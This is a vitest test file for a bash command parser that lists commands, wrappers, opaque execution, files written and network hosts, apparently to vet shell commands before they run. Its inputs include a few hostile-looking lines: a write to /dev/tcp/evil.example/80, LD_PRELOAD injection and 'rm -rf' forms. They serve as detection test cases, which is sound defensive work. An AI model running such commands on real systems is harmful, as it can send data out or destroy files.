// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is shell text
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseShellCommand } from './shell-command.ts';

const place = { cwd: '/work/proj', home: '/home/ada' };
const parse = (text: string) => parseShellCommand(text, place);

/** One line a command: wrappers, name, arguments (`?` cannot be known), a mark where it is opaque; then files and hosts. */
const show = (text: string): string => {
  const { commands, touches, hosts, syntaxError } = parse(text);
  return [
    ...commands.map(({ name, args, wrappers, opaque, program }) =>
      [
        ...wrappers.map((wrapper) => `[${wrapper}]`),
        program ?? name ?? '?',
        ...args.map((arg) => (arg === null ? '?' : /^[\w./:=@+-]+$/.test(arg) ? arg : JSON.stringify(arg))),
        ...(opaque ? ['(opaque)'] : []),
      ].join(' '),
    ),
    ...touches.map(({ path, access }) => `${access} ${path}`),
    ...hosts.map((host) => `host ${host}`),
    ...(syntaxError === undefined ? [] : [`error: ${syntaxError}`]),
  ].join('\n');
};
const all = (texts: readonly string[]): string => texts.map((text) => `$ ${text}\n${show(text)}`).join('\n\n');

describe('every simple command is found', () => {
  it('in lists, pipelines, groups, conditions, loops, functions and jobs', () => {
    expect(
      all([
        'a && b || c; d & e | f |& g',
        '(a; b) && { c; d; } && ! e; time f',
        'if a; then b; elif c; then d; else e; fi',
        'while a; do b; done; until c; do d; done',
        'for x in 1 2; do a; done; for ((i=0;i<2;i++)); do b; done; select x in 1; do c; done',
        'case $x in (a|b) c;; *) d;& esac',
        'f() { a; }; function g { b; }',
        'coproc a; coproc N { b; }',
        '[[ -f x && $(a) = b ]] && (( $(c) > 1 ))',
      ]),
    ).toMatchInlineSnapshot(`
      "$ a && b || c; d & e | f |& g
      a
      b
      c
      d
      e
      f
      g

      $ (a; b) && { c; d; } && ! e; time f
      a
      b
      c
      d
      e
      f

      $ if a; then b; elif c; then d; else e; fi
      a
      b
      c
      d
      e

      $ while a; do b; done; until c; do d; done
      a
      b
      c
      d

      $ for x in 1 2; do a; done; for ((i=0;i<2;i++)); do b; done; select x in 1; do c; done
      a
      b
      c

      $ case $x in (a|b) c;; *) d;& esac
      c
      d

      $ f() { a; }; function g { b; }
      a
      b

      $ coproc a; coproc N { b; }
      a
      b

      $ [[ -f x && $(a) = b ]] && (( $(c) > 1 ))
      a
      c"
    `);
  });

  it('in substitutions, here-documents, arithmetic, assignments and the targets of redirections', () => {
    expect(
      all([
        'echo "$(a "$(b)")" `c \\`d\\`` ${x:-$(e)} $((1 + $(f)))',
        'diff <(a) >(b) ${ c; }',
        'cat <<E > "$(a)"\n$(b) `c`\nE',
        "cat <<'E'\n$(not)\nE",
        'X=$(a) Y=(1 $(b)) Z[$(c)]=1',
        'X=$(a) cmd <<< "$(b)" 2> >(c)',
        'echo # $(not)',
        'echo \'$(not)\' \\$\\(not\\) "\\$(not)"',
      ]),
    ).toMatchInlineSnapshot(`
      "$ echo "$(a "$(b)")" \`c \\\`d\\\`\` \${x:-$(e)} $((1 + $(f)))
      echo ? ? ? ?
      a ?
      b
      c ?
      d
      e
      f

      $ diff <(a) >(b) \${ c; }
      diff ? ? ?
      a
      b
      c

      $ cat <<E > "$(a)"
      $(b) \`c\`
      E
      cat (opaque)
      b
      c
      a

      $ cat <<'E'
      $(not)
      E
      cat

      $ X=$(a) Y=(1 $(b)) Z[$(c)]=1
      a
      b
      c

      $ X=$(a) cmd <<< "$(b)" 2> >(c)
      cmd (opaque)
      a
      b
      c

      $ echo # $(not)
      echo

      $ echo '$(not)' \\$\\(not\\) "\\$(not)"
      echo "$(not)" "$(not)" "$(not)""
    `);
  });
});

describe('wrappers', () => {
  it('are taken off, and what they run is found', () => {
    expect(
      all([
        'sudo -u postgres psql -l',
        'doas -n a; env -i CI=1 b; nice -n 5 c; nice -10 d; nohup e; timeout -k 1 5s f; stdbuf -oL g; setsid h',
        'command a; builtin b; exec -a x c; exec > out.txt; command -v npm',
        'sh -c "a; b $HOME" && bash -lc \'cd src && c\' && bash -euo pipefail -c d',
        'eval "a b" c; eval -- d',
        'find . -name "*.o" -exec rm -f {} \\; -execdir sh -c "a" \\; -ok b {} +',
        'xargs -n1 -I% cp % dest; xargs a -b; xargs; a | xargs -0 sudo b',
        'watch -n 2 "a | b"; trap "c; d" EXIT; trap - INT',
        'busybox rm -rf x; strace -f -e trace=file a; time -v b',
        'sudo env nice timeout 5 xargs a',
      ]),
    ).toMatchInlineSnapshot(`
      "$ sudo -u postgres psql -l
      [sudo -u postgres] psql -l

      $ doas -n a; env -i CI=1 b; nice -n 5 c; nice -10 d; nohup e; timeout -k 1 5s f; stdbuf -oL g; setsid h
      [doas -n] a
      [env -i CI=1] b
      [nice -n 5] c
      [nice -10] d
      [nohup] e
      [timeout -k 1 5s] f
      [stdbuf -oL] g
      [setsid] h

      $ command a; builtin b; exec -a x c; exec > out.txt; command -v npm
      [command] a
      [builtin] b
      [exec -a x] c
      exec
      command -v npm
      write /work/proj/out.txt

      $ sh -c "a; b $HOME" && bash -lc 'cd src && c' && bash -euo pipefail -c d
      [sh -c] a
      [sh -c] b /home/ada
      [bash -c] cd src
      [bash -c] c
      [bash -c] d

      $ eval "a b" c; eval -- d
      [eval] a b c
      [eval] d

      $ find . -name "*.o" -exec rm -f {} \\; -execdir sh -c "a" \\; -ok b {} +
      find . -name "*.o" -exec rm -f "{}" ";" -execdir sh -c a ";" -ok b "{}" +
      [find -exec] rm -f ?
      [find -execdir] [sh -c] a
      [find -ok] b ?

      $ xargs -n1 -I% cp % dest; xargs a -b; xargs; a | xargs -0 sudo b
      [xargs -n1 -I%] cp ? dest
      [xargs] a -b ?
      [xargs] echo ?
      a
      [xargs -0] [sudo] b ?

      $ watch -n 2 "a | b"; trap "c; d" EXIT; trap - INT
      [watch] a
      [watch] b
      trap "c; d" EXIT
      [trap] c
      [trap] d
      trap - INT

      $ busybox rm -rf x; strace -f -e trace=file a; time -v b
      [busybox] rm -rf x
      [strace -f -e trace=file] a
      -v b

      $ sudo env nice timeout 5 xargs a
      [sudo] [env] [nice] [timeout 5] [xargs] a ?"
    `);
  });
});

describe('what cannot be known before it runs', () => {
  it('is opaque', () => {
    expect(
      all([
        '$CMD a; "$X"; ${Y} b; $(c) d; /bin/r* e; {$a,b}',
        'eval "$x"; source f; . ./f; sh; bash -s; bash <(a); sh -c "$x"; bash -i',
        'xargs sh; xargs -I{} sh -c "echo {}"; xargs -I{} {} a; find . -exec {} \\;',
        'sudo -s; sudo --unknown a; env -S "a b"; timeout $t a; sudo $x',
        'ssh host a; zsh -c a; su -c a; chroot / a; parallel a; crontab -',
        'fd -x rm; tar --to-command=a -xf b; rsync -e a b c; rg --pre a b; git -c core.pager=a log; git -c color.ui=never log',
        'a > $x; b > *.txt; c < "$(d)"; { e; } > $y',
      ]),
    ).toMatchInlineSnapshot(`
      "$ $CMD a; "$X"; \${Y} b; $(c) d; /bin/r* e; {$a,b}
      ? a (opaque)
      ? (opaque)
      ? b (opaque)
      ? d (opaque)
      c
      ? e (opaque)
      ? (opaque)

      $ eval "$x"; source f; . ./f; sh; bash -s; bash <(a); sh -c "$x"; bash -i
      eval ? (opaque)
      source f (opaque)
      . ./f (opaque)
      sh (opaque)
      bash -s (opaque)
      bash ? (opaque)
      a
      sh -c ? (opaque)
      bash -i (opaque)

      $ xargs sh; xargs -I{} sh -c "echo {}"; xargs -I{} {} a; find . -exec {} \\;
      [xargs] sh ? (opaque)
      [xargs -I{}] sh -c "echo {}" (opaque)
      [xargs -I{}] ? a (opaque)
      find . -exec "{}" ";"
      [find -exec] ? (opaque)

      $ sudo -s; sudo --unknown a; env -S "a b"; timeout $t a; sudo $x
      sudo -s (opaque)
      sudo --unknown a (opaque)
      env -S "a b" (opaque)
      timeout ? a (opaque)
      sudo ? (opaque)

      $ ssh host a; zsh -c a; su -c a; chroot / a; parallel a; crontab -
      ssh host a (opaque)
      zsh -c a (opaque)
      su -c a (opaque)
      chroot / a (opaque)
      parallel a (opaque)
      crontab - (opaque)
      host host

      $ fd -x rm; tar --to-command=a -xf b; rsync -e a b c; rg --pre a b; git -c core.pager=a log; git -c color.ui=never log
      fd -x rm (opaque)
      tar --to-command=a -xf b (opaque)
      rsync -e a b c (opaque)
      rg --pre a b (opaque)
      git -c core.pager=a log (opaque)
      git -c color.ui=never log

      $ a > $x; b > *.txt; c < "$(d)"; { e; } > $y
      a (opaque)
      b (opaque)
      c (opaque)
      d
      ? (opaque)
      e"
    `);
  });

  it('is what the text itself gives another meaning', () => {
    expect(
      all([
        'PATH=/x a; b',
        'NODE_ENV=test LC_ALL=C a',
        'LD_PRELOAD=./x.so a',
        'FOO=1 a',
        'FOO=1; a $FOO',
        'export FOO=1; a',
        'export CI=1; a',
        'PATH=$PATH:/x; a',
        'for PATH in /x; do a; done',
        'read PATH; a',
        'printf -v PATH x; a',
        ': ${PATH:=x}; a',
        'set -a; a',
        'ls() { rm x; }; ls; sudo ls; cat y',
        'alias ls="rm x"; ls; cat y',
        'hash -p /x ls; ls',
        'cd() { :; }; cd x && a > b',
        "x='a[$(b)]'; echo $((x))",
        "test -v 'a[$(b)]'",
        'echo ${x@P}',
      ]),
    ).toMatchInlineSnapshot(`
      "$ PATH=/x a; b
      a (opaque)
      b

      $ NODE_ENV=test LC_ALL=C a
      a

      $ LD_PRELOAD=./x.so a
      a (opaque)

      $ FOO=1 a
      a (opaque)

      $ FOO=1; a $FOO
      a ?

      $ export FOO=1; a
      export FOO=1 (opaque)
      a (opaque)

      $ export CI=1; a
      export CI=1
      a

      $ PATH=$PATH:/x; a
      a (opaque)

      $ for PATH in /x; do a; done
      a (opaque)

      $ read PATH; a
      read PATH (opaque)
      a (opaque)

      $ printf -v PATH x; a
      printf -v PATH x (opaque)
      a (opaque)

      $ : \${PATH:=x}; a
      : ? (opaque)
      a (opaque)

      $ set -a; a
      set -a (opaque)
      a (opaque)

      $ ls() { rm x; }; ls; sudo ls; cat y
      rm x
      ls (opaque)
      [sudo] ls (opaque)
      cat y

      $ alias ls="rm x"; ls; cat y
      alias "ls=rm x"
      ls (opaque)
      cat y

      $ hash -p /x ls; ls
      hash -p /x ls (opaque)
      ls (opaque)

      $ cd() { :; }; cd x && a > b
      : (opaque)
      cd x (opaque)
      a (opaque)
      write /work/proj/x/b

      $ x='a[$(b)]'; echo $((x))
      echo ? (opaque)

      $ test -v 'a[$(b)]'
      test -v "a[$(b)]" (opaque)

      $ echo \${x@P}
      echo ? (opaque)"
    `);
  });

  it('is a word whose value is not in the text', () => {
    expect(
      all([
        'a $x "$y" pre$z *.ts file? [ab] ~root $(b) $((1)) "$@" !(c)',
        'a ~/x "~/x" \\~ $HOME/x "${HOME}" $PWD/y x=~/y',
        'HOME=/x; a $HOME ~',
        'a {b,c}{1..3} {a,"b c"}.ts {x} {,y} \'{a,b}\' {01..03} {c..a} {1..5..2} {$x,y} {a,b',
        "a 'b c' \"d e\" f\\ g $'h\\ti\\x41\\'' '' \"\" \"a'b\" 'c\"d' \\\\ a\\\nb",
        'a “b c” ‘d’ – …',
      ]),
    ).toMatchInlineSnapshot(`
      "$ a $x "$y" pre$z *.ts file? [ab] ~root $(b) $((1)) "$@" !(c)
      a ? ? ? ? ? ? ? ? ? ? ?
      b

      $ a ~/x "~/x" \\~ $HOME/x "\${HOME}" $PWD/y x=~/y
      a /home/ada/x "~/x" "~" /home/ada/x /home/ada /work/proj/y "x=~/y"

      $ HOME=/x; a $HOME ~
      a ? ? (opaque)

      $ a {b,c}{1..3} {a,"b c"}.ts {x} {,y} '{a,b}' {01..03} {c..a} {1..5..2} {$x,y} {a,b
      a b1 b2 b3 c1 c2 c3 a.ts "b c.ts" "{x}" y "{a,b}" 01 02 03 c b a 1 3 5 ? "{a,b"

      $ a 'b c' "d e" f\\ g $'h\\ti\\x41\\'' '' "" "a'b" 'c"d' \\\\ a\\
      b
      a "b c" "d e" "f g" "h\\tiA'" "" "" "a'b" "c\\"d" "\\\\" ab

      $ a “b c” ‘d’ – …
      a "“b" "c”" "‘d’" "–" "…""
    `);
  });
});

describe('files', () => {
  it('are those of redirections, from the directory in which they stand', () => {
    expect(
      all([
        'a > b >> c 2> d < e &> f &>> g >| h <> i 3>&1 2>&- >&j {fd}> k',
        'a > /dev/null 2>&1 < /dev/stdin > ./x/../y > ../z > /a/b/../c',
        'cd src && a > b; c > d',
        'cd src; a > b; c > /tmp/d',
        'cd src || exit; a > b',
        '(cd src && a > b); c > d; cd x | e > f; cd y & g > h',
        'cd /tmp && cd sub && cd .. && a > b && c > ../d',
        'cd; a > b',
        'cd $x && a > b && cd /y && c > d',
        'cd - && a > b; pushd x; c > d',
        'while x; do a > b; cd c; done; d > e',
        'bash -c "cd x && a > b"; c > d; eval "cd y" && e > f',
        'if cd x; then a > b; else c > d; fi; e > f',
        '! cd x || a > b',
        'echo x > /dev/tcp/evil.example/80',
        'a <<< b > c',
        './run.sh x; cd bin && ./tool; ../up; ~/bin/t; /usr/bin/env ls',
      ]),
    ).toMatchInlineSnapshot(`
      "$ a > b >> c 2> d < e &> f &>> g >| h <> i 3>&1 2>&- >&j {fd}> k
      a
      write /work/proj/b
      write /work/proj/c
      write /work/proj/d
      read /work/proj/e
      write /work/proj/f
      write /work/proj/g
      write /work/proj/h
      write /work/proj/i
      write /work/proj/j
      write /work/proj/k

      $ a > /dev/null 2>&1 < /dev/stdin > ./x/../y > ../z > /a/b/../c
      a (opaque)
      write /work/z

      $ cd src && a > b; c > d
      cd src
      a
      c (opaque)
      write /work/proj/src/b

      $ cd src; a > b; c > /tmp/d
      cd src
      a (opaque)
      c
      write /tmp/d

      $ cd src || exit; a > b
      cd src
      exit
      a (opaque)

      $ (cd src && a > b); c > d; cd x | e > f; cd y & g > h
      cd src
      a
      c
      cd x
      e
      cd y
      g
      write /work/proj/src/b
      write /work/proj/d
      write /work/proj/f
      write /work/proj/h

      $ cd /tmp && cd sub && cd .. && a > b && c > ../d
      cd /tmp
      cd sub
      cd ..
      a
      c (opaque)
      write /tmp/b

      $ cd; a > b
      cd
      a (opaque)

      $ cd $x && a > b && cd /y && c > d
      cd ?
      a (opaque)
      cd /y
      c
      write /y/d

      $ cd - && a > b; pushd x; c > d
      cd -
      a (opaque)
      pushd x
      c (opaque)

      $ while x; do a > b; cd c; done; d > e
      x
      a (opaque)
      cd c
      d (opaque)

      $ bash -c "cd x && a > b"; c > d; eval "cd y" && e > f
      [bash -c] cd x
      [bash -c] a
      c
      [eval] cd y
      e
      write /work/proj/x/b
      write /work/proj/d
      write /work/proj/y/f

      $ if cd x; then a > b; else c > d; fi; e > f
      cd x
      a
      c
      e (opaque)
      write /work/proj/x/b
      write /work/proj/d

      $ ! cd x || a > b
      cd x
      a
      write /work/proj/x/b

      $ echo x > /dev/tcp/evil.example/80
      echo x
      write /dev/tcp/evil.example/80
      host evil.example:80

      $ a <<< b > c
      a
      write /work/proj/c

      $ ./run.sh x; cd bin && ./tool; ../up; ~/bin/t; /usr/bin/env ls
      /work/proj/run.sh x
      cd bin
      /work/proj/bin/tool
      up (opaque)
      /home/ada/bin/t
      [env] ls"
    `);
  });
});

describe('hosts', () => {
  it('are those in literal words of programs that go to the network', () => {
    expect(
      all([
        'curl -sSL -o out.html https://Example.com:8443/a?b example.org/x --url=http://c.d "$URL"; curl https://a.$x/ ht*//b/',
        'wget -O - http://user:pw@host.example/x; curl -x http://proxy:3128 https://a.b',
        'git clone git@github.com:a/b.git; git fetch; git push https://x.example/r; git commit -m "https://not.example"',
        'ssh -p 22 me@box.example ls; scp a.txt box:/tmp; rsync -av x/ u@h.example:y',
        'echo https://not.example; npm install https://c.example/x.tgz; pip install git+https://d.example/y',
      ]),
    ).toMatchInlineSnapshot(`
      "$ curl -sSL -o out.html https://Example.com:8443/a?b example.org/x --url=http://c.d "$URL"; curl https://a.$x/ ht*//b/
      curl -sSL -o out.html "https://Example.com:8443/a?b" example.org/x --url=http://c.d ?
      curl ? ?
      host c.d
      host example.com:8443
      host example.org

      $ wget -O - http://user:pw@host.example/x; curl -x http://proxy:3128 https://a.b
      wget -O - http://user:pw@host.example/x
      curl -x http://proxy:3128 https://a.b
      host host.example
      host proxy:3128
      host a.b

      $ git clone git@github.com:a/b.git; git fetch; git push https://x.example/r; git commit -m "https://not.example"
      git clone git@github.com:a/b.git
      git fetch
      git push https://x.example/r
      git commit -m https://not.example
      host github.com
      host x.example

      $ ssh -p 22 me@box.example ls; scp a.txt box:/tmp; rsync -av x/ u@h.example:y
      ssh -p 22 me@box.example ls (opaque)
      scp a.txt box:/tmp
      rsync -av x/ u@h.example:y
      host box.example
      host box
      host h.example

      $ echo https://not.example; npm install https://c.example/x.tgz; pip install git+https://d.example/y
      echo https://not.example
      npm install https://c.example/x.tgz
      pip install git+https://d.example/y
      host c.example
      host d.example"
    `);
  });
});

describe('text that is not a command line', () => {
  it('is one opaque command with what is wrong', () => {
    expect(all(['a "b', 'if a; then', 'a $(b', 'a )', 'a && '])).toMatchInlineSnapshot(`
      "$ a "b
      ? (opaque)
      error: unterminated double quote at character 3

      $ if a; then
      ? (opaque)
      error: expected command after 'then' at character 11

      $ a $(b
      ? (opaque)
      error: unterminated command substitution at character 3

      $ a )
      ? (opaque)
      error: unexpected token ')' at character 3

      $ a && 
      ? (opaque)
      error: expected command after '&&' at character 5"
    `);
  });

  it('is not read where a NUL would hide a name from the reader and not from bash', () => {
    expect(parse('r\0m x')).toMatchObject({
      commands: [{ opaque: true }],
      syntaxError: 'The command holds a NUL character',
    });
  });

  it('is not read where it is huge', () => {
    const { commands, syntaxError } = parse(`echo ${'x'.repeat(1_000_000)}`);
    expect(commands.map(({ opaque }) => opaque)).toEqual([true]);
    expect(syntaxError).toBe('The command has 1000005 characters; at most 262144 are read');
  });

  it('has no commands where it is empty', () => {
    expect([parse(''), parse('# only a remark'), parse('  \n')].map(({ commands }) => commands)).toEqual([[], [], []]);
  });

  it.each([
    ['openings', '$('],
    ['wrappers', 'sudo '],
    ['braces', '{a,b}'],
    ['groups of braces', `${'{a,b}'.repeat(8)} `],
    ['open braces', '{'],
    ['sums', 'echo $((1+1)) '],
    ['files', '> x '],
    ['here-documents', '<<A '],
    ['backticks', '`'],
    ['loops', 'while a; do '],
  ])('is read in bounded time: %s', (_, unit) => {
    const start = performance.now();
    parse(`echo ${unit.repeat(Math.floor(200_000 / unit.length))}`);
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});

const quote = (word: string): string => `'${word.replaceAll("'", `'\\''`)}'`;
const plainText = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((text) => !text.includes('\0'));
/** No word of the shell and no program with a meaning here starts so. */
const name = fc.stringMatching(/^qq[a-z]{1,6}$/);

describe('any text', () => {
  it('never makes it throw', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '$(',
        ')',
        '`',
        '"',
        "'",
        '{',
        '}',
        ';',
        '&&',
        '|',
        '<<E\n',
        '>',
        '\n',
        'a ',
        '$x',
        '\\',
        '((',
        '[[',
        ']]',
        'if ',
        'do ',
      ),
      fc.string({ maxLength: 4 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const { commands } = parse(pieces.join(''));
        expect(commands.every((command) => command.opaque || command.name !== null)).toBe(true);
      }),
      { numRuns: 2_000 },
    );
  });

  it('that is quoted comes back as it was', () => {
    fc.assert(
      fc.property(name, fc.array(plainText, { maxLength: 6 }), (program, words) => {
        const { commands } = parse([program, ...words.map(quote)].join(' '));
        expect(commands).toHaveLength(1);
        expect(commands[0]).toMatchObject({ name: program, args: words, opaque: false });
      }),
    );
  });

  it('that is put together from commands gives every one of them', () => {
    const line = fc.letrec<{ line: { text: string; names: readonly string[] } }>((tie) => ({
      line: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        name.map((text) => ({ text, names: [text] })),
        fc
          .tuple(tie('line'), fc.constantFrom(' | ', ' && ', ' || ', '; ', ' & ', '\n'), tie('line'))
          .map(([left, operator, right]) => ({
            text: left.text + operator + right.text,
            names: [...left.names, ...right.names],
          })),
        fc
          .tuple(
            fc.constantFrom(
              ['( ', ')'],
              ['{ ', '; }'],
              ['if ', '; then :; fi'],
              ['while ', '; do :; done'],
              ['echo "$( ', ')"'],
              ['cat <(', ')'],
              ['sudo sh -c "$( ', ')"'],
              ['X=$( ', ')'],
            ),
            tie('line'),
          )
          .map(([[open = '', close = ''], inner]) => ({ text: open + inner.text + close, names: inner.names })),
      ),
    })).line;
    fc.assert(
      fc.property(line, ({ text, names }) => {
        const { commands, syntaxError } = parse(text);
        expect(syntaxError).toBeUndefined();
        const found = commands.map((command) => command.name);
        for (const expected of names) expect(found).toContain(expected);
      }),
      { numRuns: 500 },
    );
  });
});

describe('words', () => {
  it('are what bash makes of them', () => {
    const part = fc.oneof(
      fc.constantFrom(
        ' ',
        "'a b'",
        '"c d"',
        '\\ ',
        "$'e\\n\\t\\x41'",
        '{f,g}',
        '{1..3}',
        '{a..c}',
        '{,h}',
        '"$"',
        '~',
        '=',
        '\\\\',
        '""',
        "''",
        ',',
        '{',
        '}',
        '..',
        '#',
        '“',
        '-',
      ),
      fc.stringMatching(/^[a-z0-9./:@%+_-]{1,4}$/),
    );
    const lines = fc.sample(
      fc.array(part, { minLength: 1, maxLength: 10 }).map((parts) => parts.join('')),
      { numRuns: 400, seed: 7 },
    );
    const cases = lines.flatMap((line) => {
      const [command, ...others] = parse(`x ${line}`).commands;
      return command && others.length === 0 && command.name === 'x' && !command.args.includes(null)
        ? [{ line, args: command.args }]
        : [];
    });
    expect(cases.length).toBeGreaterThan(200);
    const script = cases.map(({ line }) => `set -- ${line}\nprintf '%s\\0' "$#" "$@"`).join('\n');
    const options = {
      env: { HOME: place.home, PATH: '/usr/bin:/bin', LC_ALL: 'C.UTF-8' },
      cwd: '/',
      encoding: 'utf8',
    } as const;
    const output = execFileSync('bash', ['--norc', '-f', '-c', script], options).split('\0');
    let at = 0;
    for (const { line, args } of cases) {
      const count = Number(output[at]);
      expect({ line, args: output.slice(at + 1, at + 1 + count) }).toEqual({ line, args });
      at += 1 + count;
    }
  });
});
